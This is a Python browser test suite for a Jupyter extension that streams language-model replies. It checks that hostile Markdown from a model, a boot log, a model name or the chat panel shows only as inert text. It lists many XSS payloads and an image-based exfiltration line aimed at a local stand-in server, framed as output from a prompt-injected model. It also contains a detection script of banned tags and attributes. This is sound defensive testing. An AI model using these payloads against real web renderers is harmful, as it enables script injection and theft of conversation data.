"""Hostile text in a real browser, in JupyterLab 4 and in Notebook 7: shown, never run.

Model replies (split across tokens, so every frame of the stream is checked), the boot
``logs`` lines of the status line, model names, ``%replicate history`` and the chat panel
carry payloads that ran script in some renderer once. Each handler would set
``window.pwned`` to its own number; the page must never get one, no element that can run
or fetch anything may appear in our outputs, and the payloads must be readable as text.
Images are never fetched: a small HTTP server of this module stands where a prompt-injected
model would send the conversation, and must see no request. Then what should render does:
highlighted code, tables, and math typeset by the frontend's MathJax (and prose dollars not).

One server, one browser page and one notebook per frontend for the whole module; each cell
runs once (a test runs the cells it needs if no earlier test did). Screenshots go to
artifacts/screenshots/hostile-<frontend>-*.png.

In CI (CI=true) these tests always run; elsewhere they skip without /usr/bin/chromium.
"""

from __future__ import annotations

import http.server
import re
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from replicate_magic.emulator import Emulator, Faults
from replicate_magic.render import _code_css

from .browser_harness import (
    CHROMIUM,
    SCREENSHOTS,
    Notebook,
    PanelOnPage,
    launch_chromium,
    serve_notebook,
    skip_without_a_browser,
    squash,
    wait_for,
)
from .conftest import TOKEN

skip_without_a_browser("notebook")

from playwright.sync_api import sync_playwright

from replicate_magic.panel import _CSS as _PANEL_CSS

FAST = 150.0  # tokens per second: a few seconds of frames for a long hostile reply
CHAT = "hostile"


def attacks(port: int) -> list[tuple[str, str]]:
    """(Markdown a model might send, what of it must show as text). Handler N sets pwned = N."""
    exfil = f"http://127.0.0.1:{port}"
    return [
        ("\\`<img src=x onerror=window.pwned=1>\\`", "`<img src=x onerror=window.pwned=1>`"),
        ("```a`b\n<img src=x onerror=window.pwned=2>\n```\nclosed by this fence\n```",  # no fence: backtick in info
         "<img src=x onerror=window.pwned=2>"),
        ("```\ncode <img src=x onerror=window.pwned=3>\n``` not-a-close\n<svg onload=window.pwned=3>\n```",
         "``` not-a-close <svg onload=window.pwned=3>"),
        ("- item\n\n  ```\n  x\n  ```\n<img src=x onerror=window.pwned=4>", "<img src=x onerror=window.pwned=4>"),
        ("[x](&#106;avascript:window.pwned=5)", "[x](javascript:window.pwned=5)"),
        ("[x](javascript:window.pwned=6)", "[x](javascript:window.pwned=6)"),
        (f"![exfil]({exfil}/exfil?d=secret) <img src={exfil}/exfil-raw?d=secret>",
         f"[image: exfil] <img src={exfil}/exfil-raw?d=secret>"),
        ("<svg onload=window.pwned=8>", "<svg onload=window.pwned=8>"),
        ("<iframe src=javascript:top.pwned=9></iframe>", "<iframe src=javascript:top.pwned=9></iframe>"),
        ("<a href=javascript:window.pwned=10>x</a>", "<a href=javascript:window.pwned=10>x</a>"),
        ("[d](data:text/html,<script>top.pwned=11</script>) ![s](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9MT4=)",
         "[d](data:text/html,<script>top.pwned=11</script>) ![s](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9MT4=)"),
        ("| a | <img src=x onerror=window.pwned=12> |\n|---|---|\n| <svg onload=window.pwned=12> | 2 |",
         "<svg onload=window.pwned=12>"),
        ("> quote <img src=x onerror=window.pwned=13>\n> more", "quote <img src=x onerror=window.pwned=13>"),
        ("<details open ontoggle=window.pwned=14>", "<details open ontoggle=window.pwned=14>"),
        ("<style>body, .jp-Notebook, .jp-OutputArea { display: none !important }</style>",
         "<style>body, .jp-Notebook, .jp-OutputArea { display: none !important }</style>"),
        ("$\\href{javascript:window.pwned=16}{click}$", ""),  # MathJax's: see test_hostile_reply_*
        ("<script>window.pwned=17</script>", "<script>window.pwned=17</script>"),
        ('<noscript><p title="</noscript><img src=x onerror=window.pwned=18>">',
         '<noscript><p title="</noscript><img src=x onerror=window.pwned=18>">'),
        (f'<div style="background:url({exfil}/exfil-css)">', f'<div style="background:url({exfil}/exfil-css)">'),
        ('[x](https://a.org" onmouseover="window.pwned=20)', '[x](https://a.org" onmouseover="window.pwned=20)'),
        ("```html\n</code></pre><img src=x onerror=window.pwned=21>", "</code></pre><img src=x onerror=window.pwned=21>"),
    ]  # the last fence is never closed: it must hold the rest of the reply as code


HOSTILE_PROMPT = "Show me <img src=x onerror=window.pwned=30> and <script>window.pwned=31</script> as text."
BOOT_LOG = "<img src=x onerror=window.pwned=41> loading\n<svg onload=window.pwned=42> second line"
BOOT_REPLY = "Booted. <b onmouseover=window.pwned=43>bold?</b>"
MODEL_NO_SPACE = "<img/src=x/onerror=window.pwned=50>"  # one word, so the option parser takes it
MODEL_SPACED = "<img src=x onerror=window.pwned=51>"
EMPTY_CHAT = "<img src=x onerror=window.pwned=60>"
PANEL_PROMPT = "<img src=x onerror=window.pwned=70> from the panel"
PANEL_LOG = "<img src=x onerror=window.pwned=71> panel boot"
PANEL_MODEL = "<img/src=x/onerror=window.pwned=72>"
GOOD_REPLY = (
    "Some Python:\n\n```python\ndef add(a, b):\n    return a + b  # the sum\n```\n\n"
    "| name | value |\n|------|-------|\n| one | 1 |\n| two | 2 |\n\n"
    "Euler: $e^{i\\pi}$ is minus one.\n\n$$\\int_0^1 x\\,dx$$\n\nCosts $5 and $6"
)

CELLS = [
    "%load_ext replicate_magic",
    f"%%replicate -c {CHAT}\n{HOSTILE_PROMPT}",
    f"%%replicate -c {CHAT}\nBoot slowly, please.",
    f"%%replicate -c {CHAT} -m '{MODEL_NO_SPACE}'\nAre you there?",
    f"%%replicate -c {CHAT} -m '{MODEL_SPACED}'\nAre you there?",
    f"%%replicate -c {CHAT}\nShow me code, a table and some math.",
    f"%replicate history {CHAT}",
    f"%replicate history '{EMPTY_CHAT}'",
    f"%replicate panel {CHAT}",
]
LOAD, REPLY, BOOT, BAD_MODEL, BAD_OPTION, GOOD, HISTORY, EMPTY_HISTORY, PANEL = range(len(CELLS))

# Every element and attribute under the given roots that could run script, fetch something
# or restyle the page. MathJax's own output (mjx-*, with MathML for screen readers) is
# checked for attributes only.
_INSPECT = r"""
(root, [scope, allowedCss]) => {
  const found = [];
  const banned = new Set(["img", "svg", "image", "iframe", "frame", "frameset", "script", "object", "embed",
    "applet", "details", "dialog", "noscript", "form", "input", "button", "textarea", "select", "video", "audio",
    "source", "track", "picture", "link", "meta", "base", "template", "portal", "marquee", "math"]);
  const fetching = /^(src|srcset|srcdoc|action|formaction|data|background|poster|xlink:href|ping|lowsrc|dynsrc)$/i;
  const scopes = scope ? Array.from(root.querySelectorAll(scope)) : [root];
  const where = el => {
    const path = [];
    for (let up = el.parentElement; up && up !== root && path.length < 4; up = up.parentElement) {
      path.push(up.tagName.toLowerCase() + (up.className ? "." + String(up.className).trim().split(/\s+/).join(".") : ""));
    }
    return path.join(" < ");
  };
  for (const top of scopes) {
    for (const el of top.querySelectorAll("*")) {
      const tag = el.tagName.toLowerCase();
      const inMath = el.closest("mjx-container") !== null;
      if (tag === "style") {
        if (!allowedCss.includes(el.textContent)) found.push("a style sheet not ours: " + el.textContent.slice(0, 80));
      } else if (!inMath && banned.has(tag)) {
        found.push("element <" + tag + "> in " + where(el));
      }
      for (const attr of el.attributes) {
        const name = attr.name.toLowerCase(), value = attr.value.trim();
        if (name.startsWith("on")) found.push(name + "= on <" + tag + ">");
        else if (fetching.test(name)) found.push(name + "=" + value.slice(0, 60) + " on <" + tag + ">");
        else if (name === "href" && !/^(https?:|mailto:)/i.test(value)) found.push("href=" + value.slice(0, 60) + " on <" + tag + ">");
        else if (name === "style" && /url\(|expression\(|javascript:/i.test(value)) found.push("style=" + value.slice(0, 60));
      }
    }
  }
  return found;
}
"""


def while_streaming(done: Any, check: Any, timeout: float, what: str) -> int:
    """Run ``check`` again and again until ``done()``; how many times it ran."""
    deadline = time.monotonic() + timeout
    runs = 0
    while not done():
        check()
        runs += 1
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out after {timeout} s waiting for {what}")
    return runs


def pieces(text: str, sizes: tuple[int, ...] = (1, 4, 2, 7, 3, 11, 5)) -> list[str]:
    """The text cut into tokens of varied sizes, so payloads arrive cut in two (or more)."""
    cut, start, turn = [], 0, 0
    while start < len(text):
        size = sizes[turn % len(sizes)]
        cut.append(text[start:start + size])
        start, turn = start + size, turn + 1
    return cut


class Exfil:
    """An HTTP server on 127.0.0.1 that records every request: images must never reach it."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        seen = self.requests

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # http.server's name for it
                seen.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, format: str, *args: Any) -> None:  # quiet
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_address[1]
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)

    def __enter__(self) -> Exfil:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(5)


class HostileNotebook(PanelOnPage):
    """The module's notebook in one frontend: each cell runs at most once, with its faults."""

    def __init__(self, frontend: str, notebook: Notebook, emu: Emulator, exfil: Exfil) -> None:
        self.frontend = frontend
        self.notebook = notebook
        self.page = notebook.page
        self.emu = emu
        self.exfil = exfil
        self.attacks = attacks(exfil.port)
        self.attack_text = "\n\n".join(source for source, _ in self.attacks)
        self._started: set[int] = set()
        self._finished: set[int] = set()

    def faults(self, index: int) -> Faults | None:
        return {
            REPLY: Faults(tokens=pieces(self.attack_text), tokens_per_second=FAST),
            # The log lines come half-way through the cold start and stand until the first token.
            BOOT: Faults(logs=["<svg onload=window.pwned=40>", BOOT_LOG], cold_start=5.0,
                         tokens=pieces(BOOT_REPLY)),
            GOOD: Faults(tokens=pieces(GOOD_REPLY)),
        }.get(index)

    def start(self, index: int) -> None:
        for earlier in range(index):
            self.ensure(earlier)
        faults = self.faults(index)
        if faults is not None:
            self.emu.inject(faults)
        self._started.add(index)
        self.notebook.run(index)

    def finish(self, index: int) -> None:
        self.notebook.wait_done(index)
        self._finished.add(index)

    def ensure(self, index: int) -> None:
        if index not in self._started:
            self.start(index)
        if index not in self._finished:
            self.finish(index)

    def output(self, index: int) -> Any:
        return self.notebook.cell(index).locator(".jp-Cell-outputArea")

    def text(self, index: int) -> str:
        return squash(self.output(index).inner_text())

    def unsafe(self, root: Any, scope: str = ".jp-OutputArea-output") -> list[str]:
        """What in the ``scope`` elements under ``root`` (a locator) could run, fetch or
        restyle: should be nothing. The default scope is the outputs, not the frontend's icons."""
        return root.evaluate(_INSPECT, [scope, ALLOWED_CSS])

    def pwned(self) -> Any:
        return self.page.evaluate("window.pwned")

    def assert_inert(self) -> None:
        assert self.pwned() is None, f"a payload ran: window.pwned = {self.pwned()!r}"
        assert self.exfil.requests == [], f"the page fetched {self.exfil.requests}"
        assert self.page.locator(".jp-Notebook").is_visible()  # no <style> of a reply took effect

    def shot(self, what: str, locator: Any = None) -> Path:
        """A screenshot of the viewport, or of ``locator`` centred in it (Notebook 7's header
        is sticky and would cover an element scrolled to the top)."""
        SCREENSHOTS.mkdir(parents=True, exist_ok=True)
        path = SCREENSHOTS / f"hostile-{self.frontend}-{what}.png"
        clip = None
        if locator is not None:
            locator.evaluate("e => e.scrollIntoView({block: 'center'})")
            self.page.wait_for_timeout(100)
            box, view = locator.bounding_box(), self.page.viewport_size
            top, bottom = max(0, box["y"]), min(view["height"], box["y"] + box["height"])
            clip = {"x": max(0, box["x"]), "y": top, "width": min(box["width"], view["width"]), "height": bottom - top}
        self.page.screenshot(path=str(path), clip=clip)
        return path

    # -- the panel: PanelOnPage has its text -------------------------------------------------


ALLOWED_CSS = [_code_css(), re.sub(r"</?style>", "", _PANEL_CSS)]


@pytest.fixture(scope="module")
def emu() -> Iterator[Emulator]:
    with Emulator(token=TOKEN, tokens_per_second=0.0) as emulator:
        yield emulator


@pytest.fixture(scope="module")
def exfil() -> Iterator[Exfil]:
    with Exfil() as server:
        yield server


@pytest.fixture(scope="module", params=["lab", "notebook"])
def nb(request: pytest.FixtureRequest, emu: Emulator, exfil: Exfil,
       tmp_path_factory: pytest.TempPathFactory) -> Iterator[HostileNotebook]:
    frontend = request.param
    if not CHROMIUM.exists():  # only reached in CI, where a skip would hide the gap
        pytest.fail(f"CI=true but {CHROMIUM} is missing: install it with apt-get install -y chromium")
    home = tmp_path_factory.mktemp(f"hostile-{frontend}")
    server = serve_notebook(home, "hostile.ipynb", CELLS, emu.base_url, TOKEN, frontend=frontend)
    try:
        with sync_playwright() as playwright:
            context = launch_chromium(playwright, home / "chromium-profile")
            try:
                page = context.pages[0] if context.pages else context.new_page()
                opened = Notebook(page).open(server.notebook_url("hostile.ipynb"))
                yield HostileNotebook(frontend, opened, emu, exfil)
            finally:
                context.close()
    finally:
        server.stop()


def test_hostile_reply_streams_and_stays_text(nb: HostileNotebook) -> None:
    nb.start(REPLY)
    def check() -> None:
        assert nb.unsafe(nb.output(REPLY)) == []

    # Every frame of the stream, not only the last.
    checks = while_streaming(lambda: not nb.notebook.busy(REPLY), check, 30, "the hostile reply to end")
    nb.finish(REPLY)
    assert checks > 1
    shown = nb.text(REPLY)
    for _, visible in nb.attacks:
        assert squash(visible) in shown
    assert HOSTILE_PROMPT not in shown  # the prompt is not echoed; history shows it (below)
    assert nb.unsafe(nb.output(REPLY)) == []
    assert nb.output(REPLY).locator("table").count() == 1  # the table with HTML in its cells is one
    assert nb.output(REPLY).locator("blockquote").count() == 1
    # What would be a link in a sloppy renderer is text: clicking it does nothing.
    nb.output(REPLY).get_by_text("<a href=javascript:window.pwned=10>x</a>").first.click()
    nb.output(REPLY).get_by_text("[x](javascript:window.pwned=6)").first.click()
    # The one image is a link to its URL, never fetched (and never clicked here).
    image = nb.output(REPLY).locator("a.rm-image-link")
    assert image.count() == 1 and image.get_attribute("href") == f"http://127.0.0.1:{nb.exfil.port}/exfil?d=secret"
    # \href{javascript:...}{click} in math: the frontends' MathJax 3 runs with its "safe"
    # extension, which drops the javascript: URL: "click" shows as math letters, no link.
    math = nb.output(REPLY).locator("mjx-container")
    wait_for(lambda: math.count(), 15, "MathJax to typeset the \\href formula")
    assert math.count() == 1 and math.first.evaluate("m => m.querySelectorAll('a, [href]').length") == 0
    math.first.click()
    nb.page.wait_for_timeout(500)  # an onerror or onload would have fired by now
    nb.assert_inert()
    nb.shot("reply", nb.output(REPLY))


def test_hostile_boot_log_in_the_status_line_stays_text(nb: HostileNotebook) -> None:
    nb.start(BOOT)
    status = wait_for(lambda: nb.notebook.busy(BOOT) and "window.pwned=42" in (t := nb.text(BOOT)) and t,
                      15, "the hostile boot log line in the status while the cell runs")
    assert squash(BOOT_LOG) in status and "Booted" not in status  # before the first token
    assert nb.unsafe(nb.output(BOOT)) == []
    assert nb.output(BOOT).locator("p.rm-note br").count() == 1  # its two lines, as lines of text
    nb.shot("boot-status", nb.output(BOOT))
    nb.finish(BOOT)
    shown = nb.text(BOOT)
    assert BOOT_REPLY in shown and "window.pwned=42" not in shown  # the status went with the first token
    assert nb.unsafe(nb.output(BOOT)) == []
    nb.assert_inert()


def test_hostile_model_names_stay_text(nb: HostileNotebook) -> None:
    nb.ensure(BAD_MODEL)
    shown = nb.text(BAD_MODEL)
    assert MODEL_NO_SPACE in shown and "owner/name" in shown  # the client's error names it, as text
    assert nb.unsafe(nb.output(BAD_MODEL)) == []
    nb.ensure(BAD_OPTION)
    shown = nb.text(BAD_OPTION)
    assert MODEL_SPACED in shown and "-m/--model" in shown  # the option parser's error names it
    assert nb.unsafe(nb.output(BAD_OPTION)) == []
    nb.page.wait_for_timeout(300)
    nb.assert_inert()


def test_code_tables_and_math_render(nb: HostileNotebook) -> None:
    nb.ensure(GOOD)
    output = nb.output(GOOD)
    keyword = output.locator("pre.rm-code span.k").first
    assert keyword.inner_text() == "def"
    colours = keyword.evaluate("""k => {
        const plain = k.closest('code');
        return [getComputedStyle(k).color, getComputedStyle(plain).color, getComputedStyle(k).fontWeight];
    }""")
    assert colours[0] != colours[1], f"keywords look like plain text: {colours}"
    table = output.locator("table")
    assert table.count() == 1 and squash(table.inner_text()) == "name value one 1 two 2"
    # MathJax typesets our math spans (mathjax_process) inside the mathjax_ignore root...
    wait_for(lambda: output.locator("mjx-container").count() >= 2, 15, "MathJax to typeset the math")
    assert output.locator("span.math.inline mjx-container").count() == 1
    assert output.locator("div.math.display mjx-container").count() == 1
    # ...and leaves prose dollars alone.
    prose = output.locator("p", has_text="Costs")
    assert squash(prose.inner_text()) == "Costs $5 and $6" and prose.locator("mjx-container").count() == 0
    assert nb.unsafe(output) == []
    nb.shot("good", output)
    nb.assert_inert()


def test_history_of_the_hostile_conversation_stays_text(nb: HostileNotebook) -> None:
    nb.ensure(HISTORY)
    shown = nb.text(HISTORY)
    assert HOSTILE_PROMPT in shown and BOOT_REPLY in shown
    for _, visible in nb.attacks:
        assert squash(visible) in shown
    assert MODEL_NO_SPACE not in shown  # failed turns are not in the history
    output = nb.output(HISTORY)
    wait_for(lambda: output.locator("mjx-container").count() >= 3, 15, "MathJax to typeset the history's math")
    assert output.locator("p", has_text="Costs").locator("mjx-container").count() == 0
    assert nb.unsafe(output) == []
    nb.ensure(EMPTY_HISTORY)
    assert f"Conversation '{EMPTY_CHAT}' is empty." in nb.text(EMPTY_HISTORY)
    assert nb.unsafe(nb.output(EMPTY_HISTORY)) == []
    nb.page.wait_for_timeout(300)
    nb.assert_inert()
    nb.shot("history", output)


def test_panel_on_the_hostile_conversation_stays_text(nb: HostileNotebook) -> None:
    nb.ensure(PANEL)
    wait_for(lambda: nb.page.locator(".replicate-chat-panel").count(), 30, "the panel to render")
    wait_for(lambda: BOOT_REPLY in nb.conversation(), 15, "the panel to show the conversation")
    shown = nb.conversation()
    assert HOSTILE_PROMPT in shown
    for _, visible in nb.attacks:
        assert squash(visible) in shown
    html_widgets = ".widget-html-content, .widget-htmlmath-content"  # HTML and HTMLMath widgets
    assert nb.panel.locator(html_widgets).count() >= 4  # title, history, live reply, status
    assert nb.unsafe(nb.panel, html_widgets) == []

    # A turn from the panel: a hostile prompt, a hostile boot log, a hostile reply streaming.
    nb.emu.inject(Faults(logs=[PANEL_LOG], cold_start=4.0, tokens=pieces(nb.attack_text), tokens_per_second=FAST))
    nb.panel.get_by_placeholder("Message").fill(PANEL_PROMPT)
    nb.panel.get_by_role("button", name="Send", exact=True).click()
    wait_for(lambda: "window.pwned=71" in nb.status(), 15, "the hostile boot log in the panel's status")
    assert squash(PANEL_LOG) in nb.status() and PANEL_PROMPT in nb.conversation()
    assert nb.unsafe(nb.panel, html_widgets) == []
    last = squash(nb.attacks[-1][1])

    def check() -> None:
        assert nb.unsafe(nb.panel, html_widgets) == [] and nb.pwned() is None

    while_streaming(lambda: nb.conversation().count(last) == 2 and "tokens" in nb.status(), check, 30,
                    "the panel's hostile reply to end")
    wait_for(lambda: nb.panel.get_by_role("button", name="Send", exact=True).is_enabled(), 10,
             "the panel to be ready again")
    assert nb.unsafe(nb.panel, html_widgets) == []

    # A hostile model name: the error in the status line names it, as text.
    nb.panel.get_by_placeholder("owner/name").fill(PANEL_MODEL)
    nb.panel.get_by_placeholder("Message").fill("Are you there?")
    nb.panel.get_by_role("button", name="Send", exact=True).click()
    wait_for(lambda: PANEL_MODEL in nb.status(), 15, "the error naming the hostile model")
    assert nb.unsafe(nb.panel, html_widgets) == []
    nb.page.wait_for_timeout(500)
    nb.assert_inert()
    nb.panel.get_by_role("button", name="Send", exact=True).evaluate("e => e.scrollIntoView({block: 'end'})")
    nb.shot("panel")


def test_panel_renders_code_tables_and_math(nb: HostileNotebook) -> None:
    nb.ensure(PANEL)
    wait_for(lambda: nb.page.locator(".replicate-chat-panel").count(), 30, "the panel to render")
    message = nb.panel.locator(".rm-msg", has_text="Some Python")
    wait_for(lambda: message.count(), 15, "the panel to show the turn with code, a table and math")
    nb.shot("panel-good", message)
    assert message.locator("pre.rm-code span.k").count() == 2  # def, return
    assert message.locator("table").count() == 1
    # The conversation is in HTMLMath widgets (plain HTML widgets typeset nothing): our math
    # spans are typeset, the rest (mathjax_ignore) is left alone.
    wait_for(lambda: message.locator("mjx-container").count() >= 2, 10, "MathJax to typeset the panel's math")
    assert message.locator("span.math.inline mjx-container").count() == 1
    assert message.locator("div.math.display mjx-container").count() == 1
    assert message.locator("p", has_text="Costs").locator("mjx-container").count() == 0


def test_nothing_ran_and_nothing_was_fetched(nb: HostileNotebook) -> None:
    for index in range(len(CELLS)):
        nb.ensure(index)
    nb.page.wait_for_timeout(1000)  # time for any stray load, error or toggle event
    nb.assert_inert()
    assert nb.page.evaluate("getComputedStyle(document.body).display") != "none"
    nb.notebook.cell(GOOD).scroll_into_view_if_needed()
    nb.shot("page")
